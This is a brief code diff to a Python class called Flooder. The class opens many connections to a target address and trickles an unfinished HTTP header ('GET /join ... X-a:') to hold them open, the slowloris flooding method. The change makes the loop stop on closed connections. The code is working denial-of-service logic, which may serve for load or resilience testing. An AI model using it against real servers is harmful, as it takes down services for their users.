@@ -85,9 +85,10 @@ class Flooder:
             try:
                 _, writer = await asyncio.open_connection(ADDRESS, self.port, local_addr=(self.address, 0))
                 writer.write(b"GET /join HTTP/1.1\r\nX-a: ")
-                while time.perf_counter() < self._end:
+                while not writer.is_closing() and time.perf_counter() < self._end:
                     writer.write(A_PIECE)
                     await writer.drain()
+                    await asyncio.sleep(0)  # a connection that was cut is known as that only after others had a turn
                     self.statuses[NO_ANSWER] += 1
             except OSError:
                 continue
